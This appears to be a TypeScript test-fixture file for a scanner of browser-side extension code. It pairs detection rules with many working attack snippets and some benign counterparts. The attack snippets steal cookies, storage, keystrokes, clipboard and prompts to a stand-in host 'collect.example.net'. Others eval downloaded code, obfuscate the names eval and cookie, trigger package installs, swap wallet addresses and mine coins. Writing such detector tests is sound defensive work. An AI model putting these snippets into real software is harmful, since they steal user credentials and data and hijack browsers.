import type { ScriptPack } from './script-attack-packs.js';
import type { Files } from './scanned.js';

const EVIL = 'https://collect.example.net/c';
const page = (source: string): Files => ({ 'web/page.html': source });
const b64 = (text: string): string => Buffer.from(text).toString('base64');
const S = 'script_sends_store',
  T = 'script_sends_typed',
  P = 'script_sends_prompts',
  H = 'script_runs_hidden_code',
  N = 'script_hides_names',
  I = 'script_installs_packages';

/** Further ways, by which attacks are written that other packs show. */
export const SCRIPT_VARIANT_PACKS: readonly ScriptPack[] = [
  {
    rule: S,
    what: 'a cookie by spread',
    attack: `const parts = [...document.cookie];\nfetch("${EVIL}", { method: "POST", body: parts.join("") })`,
    honest: `const parts = [...document.title]; const c = document.cookie;\nfetch("${EVIL}", { method: "POST", body: parts.join("") })`,
  },
  {
    rule: S,
    what: 'the cookie of the page that embeds',
    attack: `fetch("${EVIL}?" + window.parent.document.cookie)`,
  },
  {
    rule: S,
    what: 'a store through a frame',
    attack: `const f = document.createElement("iframe"); document.body.append(f);\nnavigator.sendBeacon("${EVIL}", JSON.stringify(f.contentWindow.localStorage))`,
    honest: `const f = document.createElement("iframe"); document.body.append(f);\nf.contentWindow.localStorage.setItem("mine.a", "1"); navigator.sendBeacon("${EVIL}", "a")`,
  },
  {
    rule: S,
    what: 'names in a map that is read in a loop',
    attack: `const out = new Map();\nObject.keys(localStorage).forEach((k) => out.set(k, localStorage.getItem(k)));\nfetch("${EVIL}", { method: "POST", body: JSON.stringify([...out]) })`,
  },
  {
    rule: S,
    what: 'a link with ping',
    attack: `const a = document.createElement("a"); a.ping = "${EVIL}?" + document.cookie; a.href = "#"; a.click()`,
  },
  {
    rule: S,
    what: 'a link that is prefetched',
    attack: `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${EVIL}?" + document.cookie; document.head.append(l)`,
  },
  {
    rule: S,
    what: 'an upload stream',
    attack: `const x = new XMLHttpRequest; x["open"]("POST", "${EVIL}", true); x["send"](new Blob([document.cookie]))`,
  },
  {
    rule: S,
    what: 'a form whose action is an attribute',
    attack: `const f = document.createElement("form"); f.setAttribute("action", "${EVIL}"); f.innerHTML = '<input name="c">'; f.elements.c.value = document.cookie; f.submit()`,
  },
  {
    rule: S,
    what: 'the database of another package by cursor',
    attack: `const open = indexedDB.open("OtherPack");\nopen.onsuccess = () => { const s = open.result.transaction("keys").objectStore("keys"); s.openCursor().onsuccess = (e) => { const c = e.target.result; if (c) { fetch("${EVIL}", { method: "POST", body: JSON.stringify(c.value) }); c.continue() } } }`,
  },
  {
    rule: S,
    what: 'a promise of a database',
    attack: `const all = await indexedDB.databases();\nfor (const { name } of all) { const r = indexedDB.open(name); r.onsuccess = () => navigator.sendBeacon("${EVIL}", JSON.stringify(r.result)) }`,
  },
  {
    rule: S,
    what: 'settings of the server by a getter',
    attack: `const get = api.getSetting.bind(api);\nget("Other.ApiKey").then((k) => fetch("${EVIL}?" + k))`,
    honest: `const get = api.getSetting.bind(api);\nget("Comfy.Locale").then((k) => fetch("${EVIL}?" + k))`,
  },
  {
    rule: S,
    what: 'settings values of the app',
    attack: `const all = app.ui.settings.settingsValues;\nfetch("${EVIL}", { method: "POST", body: JSON.stringify(all) })`,
    honest: `const all = app.ui.settings.settingsValues;\nshow(all["mine.theme"]);\nfetch("https://api.example.org/list")`,
  },
  {
    rule: S,
    what: 'a web transport',
    attack: `const t = new WebTransport("https://collect.example.net:4433/");\nconst w = t.datagrams.writable.getWriter(); w.write(new TextEncoder().encode(document.cookie))`,
  },
  {
    rule: S,
    what: 'a data channel of a call',
    attack: `const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:collect.example.net" }] });\nconst d = p.createDataChannel("a"); d.onopen = () => d.send(document.cookie)`,
  },
  {
    rule: S,
    what: 'a module of which the address has the data',
    attack: `const { default: a } = await import(\`${EVIL}?\${localStorage["token"]}\`)`,
  },
  {
    rule: S,
    what: 'a style of an import',
    attack: `const s = new CSSStyleSheet(); s.replaceSync("@import url(${EVIL}?" + document.cookie + ")"); document.adoptedStyleSheets = [s]`,
  },
  {
    rule: S,
    what: 'a generator',
    attack: `function* grab() { yield document.cookie; yield JSON.stringify(localStorage) }\nfor (const part of grab()) fetch("${EVIL}", { method: "POST", body: part })`,
  },
  {
    rule: S,
    what: 'a getter of an object',
    attack: `const it = { get secret() { return document.cookie }, url: "${EVIL}" };\nfetch(it.url + "?" + it.secret)`,
  },
  {
    rule: S,
    what: 'a tagged template',
    attack:
      'const at = (s, ...v) => s.join("") + v.join("");\nfetch(at`https://collect.example.net/${document.cookie}`)',
  },
  {
    rule: S,
    what: 'a default parameter',
    attack: `const send = (data = document.cookie, to = "${EVIL}") => fetch(to, { method: "POST", body: data });\nsend()`,
  },
  {
    rule: S,
    what: 'a class field and a private method',
    attack: `class A { #to = "${EVIL}"; #read() { return document.cookie } send() { return fetch(this.#to, { method: "POST", body: this.#read() }) } }\nnew A().send()`,
  },
  {
    rule: S,
    what: 'an optional chain',
    attack: `window?.navigator?.sendBeacon?.("${EVIL}", window?.document?.["cookie"])`,
  },
  {
    rule: S,
    what: 'an address from a table of two',
    attack: `const h = { a: "https://", b: "collect", c: ".example.net" };\nfetch(Object.values(h).join("") + "/" + document.cookie)`,
  },
  {
    rule: S,
    what: 'an address from codes that are shifted',
    attack: `const u = [105, 117, 117, 113, 116].map((n) => String.fromCharCode(n - 1)).join("");\nfetch(u + "://collect.example.net/", { method: "POST", body: document.cookie })`,
  },
  {
    rule: S,
    what: 'an address out of a URL object',
    attack: `const u = new URL("https://example.org"); u.hostname = "collect.example.net"; u.searchParams.set("c", document.cookie);\nfetch(u)`,
    honest: `const u = new URL("/my/list", location.href); u.searchParams.set("c", document.cookie.length);\nfetch(u)`,
  },
  {
    rule: S,
    what: 'search parameters',
    attack: `const q = new URLSearchParams({ c: document.cookie });\nnew Image().src = "${EVIL}?" + q`,
  },
  {
    rule: T,
    what: 'what people type, kept until they leave',
    attack: `let kept = "";\nwindow.addEventListener("keydown", ({ key }) => { kept += key });\nwindow.addEventListener("pagehide", () => navigator.sendBeacon("${EVIL}", kept))`,
    honest: `let kept = 0;\nwindow.addEventListener("keydown", ({ key }) => { if (key === "Escape") kept += 1 });\nwindow.addEventListener("pagehide", () => navigator.sendBeacon("${EVIL}", "count=" + kept))`,
  },
  {
    rule: T,
    what: 'a capturing handler by name',
    attack: `document.onkeyup = function (event) { new Image().src = "${EVIL}?" + event.key }`,
  },
  {
    rule: T,
    what: 'fields of a form that is sent',
    attack: `document.addEventListener("submit", (e) => { fetch("${EVIL}", { method: "POST", body: new FormData(e.target) }) }, true)`,
  },
  {
    rule: T,
    what: 'the clipboard now and then',
    attack: `setInterval(async () => { const t = await navigator.clipboard.readText(); new WebSocket("wss://collect.example.net").onopen = function () { this.send(t) } }, 4000)`,
  },
  {
    rule: T,
    what: 'pieces of the clipboard',
    attack: `const items = await navigator.clipboard.read();\nfor (const item of items) for (const type of item.types) fetch("${EVIL}", { method: "POST", body: await item.getType(type) })`,
  },
  {
    rule: 'script_leaks_by_address',
    what: 'the texts of all nodes',
    attack: `setInterval(() => { const texts = app.graph._nodes.flatMap((n) => n.widgets.map((w) => w.value)); navigator.sendBeacon("${EVIL}", texts.join("|")) }, 9000)`,
    honest: `const texts = node.widgets.map((w) => w.value);\nfetch("${EVIL}", { method: "POST", body: texts.join("|") })`,
  },
  {
    rule: P,
    what: 'prompts by the socket of the host',
    attack: `const old = WebSocket.prototype.send;\nWebSocket.prototype.send = function (d) { fetch("${EVIL}", { method: "POST", body: d }); return old.call(this, d) }`,
  },
  {
    rule: 'script_leaks_by_address',
    what: 'messages that the host sends',
    attack: `api.socket.addEventListener("message", (e) => navigator.sendBeacon("${EVIL}", e.data))`,
    honest: `api.socket.addEventListener("message", (e) => show(e.data));\nfetch("https://api.example.org/version")`,
  },
  {
    rule: P,
    what: 'the graph as text',
    attack: `const g = JSON.stringify(app.graph.serialize());\nconst x = new XMLHttpRequest(); x.open("POST", "${EVIL}"); x.send(g)`,
  },
  {
    rule: P,
    what: 'the history of the host',
    attack: `const h = await (await fetch("/history")).json();\nawait fetch("${EVIL}", { method: "POST", body: JSON.stringify(h) })`,
    honest: `const h = await (await fetch("/history")).json();\nawait fetch("/my/keep", { method: "POST", body: JSON.stringify(h) });\nfetch("https://api.example.org/list")`,
  },
  {
    rule: 'script_leaks_by_address',
    what: 'api.fetchApi through a subclass of members',
    attack: `const { fetchApi } = api;\nObject.assign(api, { fetchApi(route, options) { navigator.sendBeacon("${EVIL}", JSON.stringify([route, options])); return fetchApi.call(api, route, options) } })`,
  },
  {
    rule: P,
    what: 'app.queuePrompt through Reflect',
    attack: `const old = app.queuePrompt;\nReflect.set(app, "queuePrompt", function (...all) { fetch("${EVIL}", { method: "POST", body: JSON.stringify(all) }); return old.apply(app, all) })`,
  },
  {
    rule: H,
    what: 'a function of a generator',
    attack: `const G = Object.getPrototypeOf(function* () {}).constructor;\nG(atob("YWxlcnQoMSk="))().next()`,
  },
  {
    rule: H,
    what: 'eval through globalThis by comma',
    attack: `const g = globalThis; (1, g.eval)(g.atob("YWxlcnQoMSk="))`,
  },
  {
    rule: H,
    what: 'setTimeout bound',
    attack: `const later = setTimeout.bind(window);\nlater(atob("YWxlcnQoMSk="), 9)`,
  },
  {
    rule: H,
    what: 'a text from bytes',
    attack: `new Function(new TextDecoder().decode(new Uint8Array([97, 108, 101])))()`,
    honest: `show(new TextDecoder().decode(new Uint8Array([97, 108, 101]))); eval`,
  },
  {
    rule: H,
    what: 'code from colours of a picture',
    attack: `const d = ctx.getImageData(0, 0, 9, 9).data; let s = "";\nfor (let i = 0; i < d.length; i += 4) s += String.fromCharCode(d[i]);\nFunction(s)()`,
  },
  {
    rule: H,
    what: 'code from invisible letters',
    attack: `const s = "\\u200b\\u200c".split("").map((c) => (c === "\\u200b" ? 0 : 1)).join("");\nlet o = ""; for (let i = 0; i < s.length; i += 8) o += String.fromCharCode(parseInt(s.slice(i, i + 8), 2));\neval(o)`,
  },
  {
    rule: H,
    what: 'a frame with markup',
    attack: `const f = document.createElement("iframe"); f.srcdoc = atob("${b64('<script>alert(1)</script>')}"); document.body.append(f)`,
    honest: `const f = document.createElement("iframe"); f.srcdoc = atob("${b64('<b>a</b>')}"); document.body.append(f)`,
  },
  {
    rule: H,
    what: 'a worker of a data address',
    attack: `new Worker("data:text/javascript;base64,YWxlcnQoMSk=")`,
  },
  {
    rule: H,
    what: 'a blob worker of joined bytes',
    attack: `const b = new Blob([Uint8Array.from(atob("YWxl"), (c) => c.charCodeAt(0))], { type: "text/javascript" });\nnew Worker(URL.createObjectURL(b))`,
  },
  {
    rule: H,
    what: 'a shadow root',
    attack: `host.attachShadow({ mode: "open" }).innerHTML = atob("${b64('<img src=x onerror=alert(1)>')}")`,
  },
  {
    rule: H,
    what: 'a module made of a blob',
    attack: `const s = document.createElement("script"); s.type = "module"; s.src = URL.createObjectURL(new Blob([atob("YWxl")])); document.head.append(s)`,
  },
  {
    rule: 'script_loads_foreign_code',
    what: 'a script cloned from a template',
    attack: `const t = document.createElement("template"); t.innerHTML = '<script src="https://code.example.net/a.js"></' + 'script>'; document.head.append(t.content)`,
  },
  {
    rule: 'script_loads_foreign_code',
    what: 'an import map',
    attack: page(
      `<script type="importmap">{"imports": {"a": "https://code.example.net/a.js"}}</script><script type="module">import "a"</script>`,
    ),
    honest: page(
      `<script type="importmap">{"imports": {"a": "./a.js"}}</script><script type="module">import "a"</script>`,
    ),
  },
  {
    rule: 'script_loads_foreign_code',
    what: 'a module that is preloaded and imported',
    attack: `const at = "https://code.example.net"; const m = await import(at + "/a.js")`,
  },
  {
    rule: 'script_loads_foreign_code',
    what: 'a base for all scripts',
    attack: page(`<base href="https://code.example.net/"><script src="a.js"></script>`),
    honest: page(`<base href="/extensions/mine/"><script src="a.js"></script>`),
  },
  {
    rule: 'script_runs_downloaded_code',
    what: 'a reply that becomes a blob',
    attack: `const r = await fetch("https://code.example.net/a"); const u = URL.createObjectURL(await r.blob());\nimport(u)`,
  },
  {
    rule: 'script_runs_downloaded_code',
    what: 'messages of a socket',
    attack: `const s = new WebSocket("wss://code.example.net"); s.onmessage = (e) => eval(e.data)`,
    honest: `const s = new WebSocket("wss://code.example.net"); s.onmessage = (e) => show(JSON.parse(e.data)); eval`,
  },
  {
    rule: 'script_runs_downloaded_code',
    what: 'messages of a stream',
    attack: `new EventSource("https://code.example.net/e").addEventListener("message", (e) => new Function(e.data)())`,
  },
  {
    rule: 'script_runs_downloaded_code',
    what: 'a reply in XMLHttpRequest',
    attack: `const x = new XMLHttpRequest(); x.open("GET", "https://code.example.net/a"); x.onload = () => (0, eval)(x.responseText); x.send()`,
  },
  { rule: N, what: 'a name turned around', attack: `window["lave".split("").reverse().join("")]("1")` },
  { rule: N, what: 'a name from a concat', attack: `globalThis["".concat("ev", "al")]("1")` },
  {
    rule: N,
    what: 'a name by a template',
    attack: 'const a = "coo"; const b = document[`${a}kie`]; send(b); eval',
  },
  {
    rule: N,
    what: 'a name from a regular expression',
    attack: `const k = /cookie/.source; send(document[k]); window[/eval/.source]("1")`,
  },
  { rule: N, what: 'a name by slicing', attack: `const t = "medieval".slice(4); window[t]("1")` },
  {
    rule: 'script_hides_address',
    what: 'an address of codes',
    attack: `fetch(String.fromCharCode(${[...EVIL].map((c) => c.charCodeAt(0)).join(',')}))`,
  },
  {
    rule: I,
    what: 'a queue of the manager',
    attack: `api.fetchApi("/manager/queue/install", { method: "POST", body: JSON.stringify({ id: "a" }) })`,
  },
  {
    rule: I,
    what: 'an install route by XMLHttpRequest',
    attack: `const x = new XMLHttpRequest(); x.open("POST", "/customnode/install/pip"); x.send("a")`,
  },
  {
    rule: I,
    what: 'an install route in an address',
    attack: `fetch(new URL("/customnode/install/git_url", location.origin), { method: "POST", body: "a" })`,
  },
  {
    rule: I,
    what: 'a route by a base',
    attack: `const base = location.origin; fetch(\`\${base}/customnode/install/git_url\`, { method: "POST", body: "a" })`,
  },
  {
    rule: I,
    what: 'a form of a page',
    attack: page(
      `<body onload="f.submit()"><form id="f" method="post" action="/customnode/install/git_url"><input name="a"></form>`,
    ),
    honest: page(`<form method="post" action="/my/save"><input name="a"></form>`),
  },
  {
    rule: 'script_takes_over_pages',
    what: 'a worker with a scope that is put together',
    attack: `const scope = "/"; navigator.serviceWorker.register("sw.js", { scope })`,
    honest: `const scope = "/extensions/mine/"; navigator.serviceWorker.register("sw.js", { scope })`,
  },
  {
    rule: 'script_takes_over_pages',
    what: 'a bound register',
    attack: `const { register } = navigator.serviceWorker; register.call(navigator.serviceWorker, "/sw.js")`,
  },
  {
    rule: 'script_swaps_wallets',
    what: 'an address in place of the one that is pasted',
    attack: `document.addEventListener("paste", (e) => { const t = e.clipboardData.getData("text"); if (/^0x/.test(t)) { e.preventDefault(); document.execCommand("insertText", false, "0x52908400098527886E0F7030069857D2E4169EE7") } })`,
  },
  {
    rule: 'script_mines_coins',
    what: 'a worker of threads',
    attack: `const m = await WebAssembly.compileStreaming(fetch("hash.wasm"));\nconst s = new WebSocket("wss://relay.example.net:8443");\ns.onmessage = ({ data }) => { const { job_id, target, blob } = JSON.parse(data); for (let nonce = 0; nonce < 1e6; nonce++) if (hash(blob, nonce) < target) s.send(JSON.stringify({ method: "submit", params: { id: worker_id, job_id, nonce } })) };\nconst hashrate = 0`,
  },
  {
    rule: S,
    what: 'a picture with a handler',
    attack: {
      'web/a.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="new Image().src='${EVIL}?'+document.cookie"/></svg>`,
    },
  },
  {
    rule: S,
    what: 'an animation that begins',
    attack: {
      'web/a.svg': `<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="fetch('${EVIL}?'+document.cookie)" attributeName="x" dur="1s"/></svg>`,
    },
  },
  {
    rule: S,
    what: 'a foreign object with a script',
    attack: {
      'web/a.svg': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>fetch("${EVIL}?" + document.cookie)</script></body></foreignObject></svg>`,
    },
  },
];
